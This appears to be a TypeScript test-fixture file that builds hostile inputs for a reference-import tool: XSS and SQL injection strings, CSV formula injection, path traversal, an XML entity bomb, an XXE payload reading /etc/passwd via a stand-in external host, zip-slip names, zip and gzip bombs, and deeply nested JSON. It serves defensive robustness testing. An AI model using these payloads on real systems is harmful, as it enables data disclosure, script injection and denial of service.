// Files that mean harm, or look like it: each has a name, and bytes made on demand, as some are large.
import { Readable } from "node:stream";
import { pipeline } from "node:stream/promises";
import { createGzip, gzipSync } from "node:zlib";
import { strToU8, zipSync } from "fflate";
import { HOSTILE_TITLES } from "./hostile-titles.ts";
import { SMALL_LISTING } from "./listings.ts";

export interface HostileInput {
  readonly name: string;
  /** What the file is called. */
  readonly file: string;
  readonly bytes: () => Uint8Array | Promise<Uint8Array>;
  /** How many papers come of it; "some" where only that there are any matters. */
  readonly papers: number | "some";
  /** Codes of issues that it must have. */
  readonly issues?: readonly string[];
}

/** Texts that are run, turned, cut or mistaken where a program is careless. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...HOSTILE_TITLES.filter((title) => title.trim() !== ""),
  "<img src=x onerror=window.__hacked=1>",
  '"><svg onload="window.__hacked=1"><script>window.__hacked=1</script></svg>',
  "'; window.__hacked=1; //",
  "</script><script>window.__hacked=1</script>",
  "javascript:window.__hacked=1",
  '<a href="javascript:window.__hacked=1" onmouseover="window.__hacked=1">x</a>',
  "[a link](javascript:window.__hacked=1) ![a picture](x onerror=1)",
  "<style>*{display:none}</style><base href=//elsewhere.example/>",
  "<iframe srcdoc='<script>parent.__hacked=1</script>'></iframe>",
  "zero\u200bwidth\u200c\u200d\u2060\ufeff joined",
  "\u202e\u202d\u202a\u2066turned and never turned back",
  "toString",
  "hasOwnProperty",
  '=HYPERLINK("http://elsewhere.example","x")',
  "=1+1;@x",
  "\r=1+1",
  "%s%n%x ${7*7} {{7*7}} #{7*7}",
  "../../etc/passwd",
  "'; DROP TABLE papers; --",
  "\\N",
  "\\.",
];

const LONG_WORD = "r".repeat(100_000);
const LONG_TEXT = "reed ".repeat(20_000);

/** Years that are none, and names without an end. */
const ODD_RECORDS: readonly object[] = [
  ...[-1, 0, 99999].map((year) => ({
    title: `Reeds of the year ${year}`,
    author: [{ literal: "Ada Lind" }, { literal: "Bo Chen" }],
    issued: { "date-parts": [[year]] },
  })),
  ...[LONG_WORD, LONG_TEXT].map((text) => ({
    title: text,
    author: [{ literal: text }, { literal: "Ada Lind" }],
    "container-title": text,
    keyword: text,
    abstract: text,
  })),
];

/** As records of a reference manager, the one format that keeps any text: a name, a keyword, a venue. */
export function hostileRecords(): readonly object[] {
  const named = HOSTILE_TEXTS.map((text, i) => ({
    id: text,
    type: "article-journal",
    title: text,
    author: [{ literal: text }, { family: text, given: `Number ${i}` }, { literal: "Ada Lind" }],
    "container-title": text,
    keyword: `${text}, reeds`,
    abstract: `Of reeds and ${text}.`,
    DOI: `10.1000/${text}`,
    URL: text,
    issued: { "date-parts": [[2000 + (i % 20)]] },
  }));
  return [...named, ...ODD_RECORDS];
}

const json = (value: unknown): Uint8Array => Buffer.from(JSON.stringify(value));
const paper = (more: object) => ({ type: "article-journal", title: "On reeds", ...more });
const people = (count: number) =>
  Array.from({ length: count }, (_, i) => ({ family: `Reed${i}`, given: "Ann" }));

/** Zeros, packed as they are made. */
async function gzipOfZeros(bytes: number): Promise<Uint8Array> {
  const zeros = Buffer.alloc(1 << 20);
  const chunks: Buffer[] = [];
  await pipeline(
    Readable.from(
      (function* () {
        for (let made = 0; made < bytes; made += zeros.length) yield zeros;
      })(),
    ),
    createGzip({ level: 1 }),
    async (packed: AsyncIterable<Buffer>) => {
      for await (const chunk of packed) chunks.push(chunk);
    },
  );
  return Buffer.concat(chunks);
}

/** A gzip of many zeros: gzips one behind the other are one file. */
async function zerosOf(bytes: number): Promise<Uint8Array> {
  const one = await gzipOfZeros(1 << 26);
  return Buffer.concat(Array.from({ length: Math.ceil(bytes / 2 ** 26) }, () => one));
}

const BOMB = `<?xml version="1.0"?>
<!DOCTYPE dblp [<!ENTITY a "aaaaaaaaaa">${Array.from(
  { length: 12 },
  (_, i) => `<!ENTITY a${i} "${`&a${i === 0 ? "" : i - 1};`.repeat(10)}">`,
).join("")}]>
<dblp><article key="a"><author>Ann Lee</author><title>On &a11; reeds</title><year>2001</year></article></dblp>`;

const EXTERNAL = `<?xml version="1.0"?>
<!DOCTYPE dblp SYSTEM "http://elsewhere.example/dblp.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://elsewhere.example/p"> %p;]>
<dblp><article key="a"><author>Ann Lee</author><title>On &x; reeds</title><year>2001</year></article></dblp>`;

const FOREIGN_GEXF = `<?xml version="1.0"?><gexf xmlns="http://www.gexf.net/1.2draft" version="1.2"><meta><creator>elsewhere</creator></meta>
<graph defaultedgetype="undirected"><nodes><node id="__proto__" label="&lt;script&gt;window.__hacked=1&lt;/script&gt;"/><node id="b" label="=1+1"/></nodes>
<edges><edge id="0" source="__proto__" target="b" weight="NaN"/><edge source="b" target="nobody"/></edges></graph></gexf>`;

const zip = (files: Readonly<Record<string, Uint8Array>>) => zipSync({ ...files });
const listing = strToU8(SMALL_LISTING);

/** The list. */
export const HOSTILE_INPUTS: readonly HostileInput[] = [
  {
    name: "texts that are run, turned or mistaken",
    file: "<img src=x onerror=window.__hacked=1>.json",
    bytes: () => json(hostileRecords()),
    papers: "some",
  },
  {
    name: "the same as a table",
    file: "=cmd.csv",
    bytes: () =>
      Buffer.from(
        "Title,Authors,Year,Keywords\r\n" +
          HOSTILE_TEXTS.map((text) =>
            [text, text, "2001", text].map((cell) => `"${cell.replaceAll('"', '""')}"`).join(","),
          ).join("\r\n"),
      ),
    papers: "some",
  },
  {
    name: "a title, a name and a keyword of 100,000 letters",
    file: "long.json",
    bytes: () => {
      const [long, whole] = [LONG_TEXT, LONG_WORD];
      return json([
        paper({ title: long, author: [{ literal: whole }], keyword: whole }),
        paper({ title: whole, author: [{ literal: long }], keyword: long, abstract: long }),
      ]);
    },
    papers: 2,
  },
  ...[",", " ", "(", "-", ".", "@", "[", "A ", "Univ-", "·", ";", '"', "*", "\\", "|", "_"].map(
    (piece): HostileInput => ({
      name: `100,000 times ${JSON.stringify(piece)} in each field`,
      file: "runs.json",
      bytes: () => {
        const run = `Reeds${piece.repeat(Math.floor(100_000 / piece.length))}x`;
        return json([
          paper({
            title: run,
            author: [{ literal: run }, { family: run, given: run }],
            keyword: run,
            abstract: run,
            "container-title": run,
            page: run,
            note: run,
          }),
        ]);
      },
      papers: 1,
    }),
  ),
  { name: "an entity bomb", file: "bomb.xml", bytes: () => Buffer.from(BOMB), papers: 1 },
  {
    name: "entities and a DTD from elsewhere",
    file: "outside.xml",
    bytes: () => Buffer.from(EXTERNAL),
    papers: 1,
  },
  ...["</", "<", "&a;", "\u0001", "<a b="].map((piece): HostileInput => ({
    name: `XML that is wrong at each ${JSON.stringify(piece)}, 100,000 times`,
    file: "wrong.xml",
    bytes: () => Buffer.from(`<dblp><article key="a"><title>${piece.repeat(100_000)}`),
    papers: 0,
  })),
  {
    name: "elements a million deep",
    file: "deep.xml",
    bytes: () => Buffer.from(`<dblp><article key="a">${"<i>".repeat(1_000_000)}`),
    papers: 0,
  },
  {
    name: "names in a zip that lead elsewhere",
    file: "names.zip",
    bytes: () =>
      zip({
        "../../../etc/passwd": listing,
        "/etc/cron.d/x": strToU8("hello"),
        "C:\\Windows\\x.txt": strToU8("hello"),
      }),
    papers: 5,
  },
  {
    name: "zips in zips",
    file: "nested.zip",
    bytes: () => zip({ "a.zip": zip({ "b.zip": zip({ "c.txt": listing }) }) }),
    papers: 0,
    issues: ["packed-twice"],
  },
  {
    name: "gzips in gzips",
    file: "nested.gz",
    bytes: () => gzipSync(gzipSync(gzipSync(listing))),
    papers: 0,
    issues: ["packed-twice"],
  },
  {
    name: "a zip of more than may be unpacked",
    file: "bomb.zip",
    bytes: async () => {
      const zeros = new Uint8Array(1 << 20);
      const one = zip({ "a.txt": zeros });
      // The directory says how large a member is; it says too much here, and nothing is unpacked.
      const lie = Buffer.from(one);
      lie.writeUInt32LE(0xfffffff0, lie.lastIndexOf("PK\u0001\u0002") + 24);
      return Promise.resolve(lie);
    },
    papers: 0,
    issues: ["packed-too-large"],
  },
  {
    name: "a gzip of ten gigabytes of zeros",
    file: "zeros.txt.gz",
    bytes: () => zerosOf(10 * 2 ** 30),
    papers: 0,
  },
  {
    name: "a table of one line of five million letters",
    file: "line.csv",
    bytes: () => Buffer.from("Title,Authors,Year,".repeat(260_000)),
    papers: 0,
  },
  {
    name: "a million opening braces in BibTeX",
    file: "open.bib",
    bytes: () => Buffer.from(`@article{k, title = ${"{".repeat(1_000_000)}`),
    papers: 0,
  },
  {
    name: "a million pairs of braces in BibTeX",
    file: "pairs.bib",
    bytes: () =>
      Buffer.from(
        `@article{k, title = {${"{".repeat(500_000)}Reeds${"}".repeat(500_000)}}, year = 2001}\n` +
          "@article{m, title = {On moss}, author = {Ann Lee}, year = 2002}\n",
      ),
    papers: "some",
  },
  ...["[", '{"a":', '{"items":['].map((open): HostileInput => ({
    name: `JSON a million levels deep: ${open}`,
    file: "deep.json",
    bytes: () => Buffer.from(open.repeat(1_000_000)),
    papers: 0,
  })),
  {
    name: "JSON a million levels deep that is closed",
    file: "closed.json",
    bytes: () =>
      Buffer.from(
        `[{"type":"book","title":"Reeds","custom":${"[".repeat(1_000_000)}${"]".repeat(1_000_000)}},{"type":"book","title":"Moss"}]`,
      ),
    papers: 2,
  },
  {
    name: "100,000 papers of one author",
    file: "one.json",
    bytes: () =>
      json(
        Array.from({ length: 100_000 }, (_, i) =>
          paper({ title: `Reeds of pond ${i}`, author: [{ family: "Lind", given: "Ada" }] }),
        ),
      ),
    papers: 100_000,
  },
  {
    name: "years that are none",
    file: "years.json",
    bytes: () =>
      json(
        [-1, 0, 99999, 1e300, -2147483649, "2001; DROP", null, NaN].map((year, i) =>
          paper({ title: `Reeds, part ${i}`, issued: { "date-parts": [[year]] } }),
        ),
      ),
    papers: 8,
  },
  {
    name: "one id for many papers",
    file: "ids.json",
    bytes: () =>
      json(
        ["Reeds", "Moss", "Ferns", "Reeds"].map((title) =>
          paper({ id: "same", title, DOI: "10.1000/same", author: people(1) }),
        ),
      ),
    papers: "some",
  },
  {
    name: "a GEXF made by others",
    file: "foreign.gexf",
    bytes: () => Buffer.from(FOREIGN_GEXF),
    papers: 0,
    issues: ["map-file"],
  },
  {
    name: "half of each letter, and bytes of no text",
    file: "bytes.txt",
    bytes: () => Buffer.from(Array.from({ length: 70_000 }, (_, i) => (i * 7919) % 256)),
    papers: 0,
  },
];
